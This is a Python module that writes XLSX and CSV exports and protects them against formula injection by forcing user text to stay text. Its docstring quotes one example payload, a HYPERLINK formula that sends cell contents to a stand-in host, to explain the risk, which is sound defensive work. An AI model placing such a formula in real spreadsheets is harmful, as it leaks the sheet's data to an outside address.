"""Cells of the spreadsheets the application writes: text stays text, never a formula.

Text typed at a counter or by the committee (a decision reason, a name, a heading of an
imported file) ends up in XLSX sheets and CSV reports that staff open in Excel or
LibreOffice. Text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
taken by those programs as a formula: ``=HYPERLINK("http://x/"&A1,"x")`` would send the
sheet's cells to any address (CWE-1236, "CSV/formula injection"). So:

- every XLSX is written through :func:`sheet_bytes` / :func:`put`: a ``str`` is stored as a
  string cell (never a formula or an error cell, whatever it starts with), and a text that
  looks like a formula also gets the ``quotePrefix`` style, so editing the cell in Excel
  or LibreOffice keeps it text; numbers, booleans and dates stay what they are;
- every CSV report passes its cells through :func:`csv_text`, which puts an apostrophe in
  front of such text (the usual guard; CSV has no cell types).

Characters XML cannot hold (control characters) are shown as U+FFFD instead of making the
whole export fail on one odd byte in a reason.
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, time
from decimal import Decimal
from typing import Any, BinaryIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
MAX_CELL_CHARS = 32767  # Excel's limit; openpyxl would cut the text silently anyway
# openpyxl's own (openpyxl.cell.cell), here so that a sheet written without openpyxl
# (xlsx_stream) need not import the library for them.
ILLEGAL_CHARACTERS_RE = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")
ERROR_CODES = ("#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A")


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def clean_text(text: str) -> str:
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)[:MAX_CELL_CHARS]


def put(cell: Any, value: Any) -> None:
    """Store ``value`` in an openpyxl cell: text as a string cell, numbers as numbers."""
    if value is None or isinstance(value, bool | int | float | Decimal | date | time):
        if isinstance(value, datetime) and value.tzinfo is not None:
            value = value.astimezone(UTC).replace(tzinfo=None)  # XLSX has no time zones
        cell.value = value
        return
    text = clean_text(value if isinstance(value, str) else str(value))
    cell.value = text  # openpyxl guesses "f" for "=…" and "e" for "#N/A"…
    cell.data_type = "s"  # …and this says it is text, whatever it starts with
    if looks_like_formula(text) or text in ERROR_CODES:
        cell.quotePrefix = True


def sheet_bytes(title: str, headers: Sequence[str], rows: Iterable[Sequence[Any]], *,
                widths: Sequence[float] = (), right_to_left: bool = False) -> bytes:
    """A one-sheet workbook: bold headers on a frozen first row, then the rows."""
    buf = io.BytesIO()
    write_sheet(buf, title, headers, rows, widths=widths, right_to_left=right_to_left)
    return buf.getvalue()


def write_sheet(fh: BinaryIO, title: str, headers: Sequence[str],
                rows: Iterable[Sequence[Any]], *, widths: Sequence[float] = (),
                right_to_left: bool = False) -> None:
    """The workbook of ``sheet_bytes`` written into ``fh`` (a file of any size: the rows
    pass through a few hundred at a time), as its XML (``xlsx_stream``: the same cells
    as :func:`put` makes, without openpyxl's import and per-cell objects)."""
    from .xlsx_stream import write_one_sheet

    write_one_sheet(fh, title, headers, rows, widths=widths, right_to_left=right_to_left)


def csv_text(value: Any) -> Any:
    """A CSV cell that a spreadsheet program shows as the text it is."""
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value


# -- workbooks of several sheets, with native charts (the reports) -----------------------

DATE_FORMAT = "yyyy-mm-dd"


@dataclass(frozen=True)
class Chart:
    """A native chart over a block of a sheet: categories in ``cats_col``, series in
    ``first_col``…``last_col`` (their names in ``header_row``), rows after it to
    ``last_row`` (1-based, as Excel counts)."""

    kind: str  # "bar" (horizontal bars), "column" or "line"
    title: str
    header_row: int
    last_row: int
    cats_col: int
    first_col: int
    last_col: int
    anchor: str  # the cell of its top-left corner, e.g. "E2"
    right_to_left: bool = False  # categories read from the right, value axis on the right
    width_cm: float = 16.0
    height_cm: float = 7.5


@dataclass(frozen=True)
class Sheet:
    title: str  # at most 31 characters, none of []:*?/\
    rows: Sequence[Sequence[Any]]  # None leaves a cell empty
    bold_rows: frozenset[int] = frozenset()  # 1-based rows drawn bold (headings)
    widths: Sequence[float] = ()
    right_to_left: bool = False
    charts: Sequence[Chart] = ()
    formats: dict[int, str] = field(default_factory=dict)  # 1-based column -> number format


def workbook_bytes(sheets: Sequence[Sheet]) -> bytes:
    """A workbook of several sheets: every cell through :func:`put` (text stays text,
    never a formula), dates as real date cells, and native Excel charts."""
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    wb = Workbook()
    assert wb.active is not None
    wb.remove(wb.active)
    bold = Font(bold=True)
    for spec in sheets:
        ws = wb.create_sheet(spec.title)
        ws.sheet_view.rightToLeft = spec.right_to_left
        for i, width in enumerate(spec.widths, start=1):
            ws.column_dimensions[get_column_letter(i)].width = width
        for r, values in enumerate(spec.rows, start=1):
            for c, value in enumerate(values, start=1):
                if value is None:
                    continue
                cell = ws.cell(row=r, column=c)
                put(cell, value)
                if isinstance(value, date):
                    cell.number_format = spec.formats.get(c, DATE_FORMAT)
                elif c in spec.formats and isinstance(value, int | float):
                    cell.number_format = spec.formats[c]
                if r in spec.bold_rows:
                    cell.font = bold
        for chart in spec.charts:
            ws.add_chart(_chart(ws, chart), chart.anchor)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _chart(ws: Any, spec: Chart) -> Any:
    from openpyxl.chart import BarChart, LineChart, Reference

    chart: Any = LineChart() if spec.kind == "line" else BarChart()
    if spec.kind != "line":
        chart.type = "bar" if spec.kind == "bar" else "col"
        chart.gapWidth = 60
    chart.title = clean_text(spec.title)
    chart.width, chart.height = spec.width_cm, spec.height_cm
    data = Reference(ws, min_col=spec.first_col, max_col=spec.last_col,
                     min_row=spec.header_row, max_row=spec.last_row)
    cats = Reference(ws, min_col=spec.cats_col, min_row=spec.header_row + 1,
                     max_row=spec.last_row)
    chart.add_data(data, titles_from_data=True)
    chart.set_categories(cats)
    if spec.first_col == spec.last_col:
        chart.legend = None
    # Newer Excel hides the axes of openpyxl's charts unless told they are not deleted.
    chart.x_axis.delete = False
    chart.y_axis.delete = False
    if spec.kind == "bar":
        chart.x_axis.scaling.orientation = "maxMin"  # the first category on top
        if spec.right_to_left:
            chart.y_axis.scaling.orientation = "maxMin"  # bars growing leftwards
    elif spec.right_to_left:
        chart.x_axis.scaling.orientation = "maxMin"  # time and categories from the right
    return chart
